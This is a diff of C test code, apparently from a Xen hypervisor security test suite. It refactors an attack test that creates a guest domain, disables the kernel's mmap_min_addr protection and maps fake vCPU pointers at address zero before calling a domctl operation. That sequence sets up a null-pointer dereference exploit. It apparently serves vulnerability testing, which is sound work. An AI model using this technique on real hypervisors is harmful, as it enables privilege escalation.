@@ -11,9 +11,6 @@
  */
 #include "content.h"
 
-#include <fcntl.h>
-#include <sys/mman.h>
-
 #include <xen/hvm/save.h>
 
 /*
@@ -22,31 +19,11 @@
  */
 #define PRETENCE 0x77
 
-/* A vCPU at the address 0, all of whose pointers lead to such a domain. */
-static bool pretend(void)
-{
-    static const size_t size = 2 * PAGE_SIZE;
-    void *domain = memset(buffer(size), PRETENCE, size), **vcpu;
-
-    if ( !write_word("/proc/sys/vm/mmap_min_addr", "0") )
-        return false;
-
-    vcpu = mmap(NULL, size, PROT_READ | PROT_WRITE,
-                MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE |
-                    MAP_LOCKED,
-                -1, 0);
-    if ( vcpu == MAP_FAILED )
-        return false;
-
-    for ( size_t i = 0; i < size / sizeof(*vcpu); i++ )
-        vcpu[i] = domain;
-    return true;
-}
-
 RAW_ATTACK_OWN_BOOT("U-CONTENT-NOVCPU", "a domain of root's making, for Xen")
 {
     struct xen_domctl_createdomain create = { 0 };
     struct hvm_hw_vpic told, pretence;
+    void *domain = memset(buffer(2 * PAGE_SIZE), PRETENCE, 2 * PAGE_SIZE);
     struct control_op_call *call;
     struct xen_domctl *op;
     domid_t domid;
@@ -56,7 +33,7 @@ RAW_ATTACK_OWN_BOOT("U-CONTENT-NOVCPU", "a domain of root's making, for Xen")
     domid = create_domain(&create, &result);
     if ( domid == DOMID_INVALID )
         return missing("no domU");
-    if ( dom0_is_pv() && !pretend() )
+    if ( dom0_is_pv() && !pretend_vcpu(domain) )
         return missing("no memory at the address 0");
 
     call = DOMCTL_CALL(gethvmcontext_partial, domid,
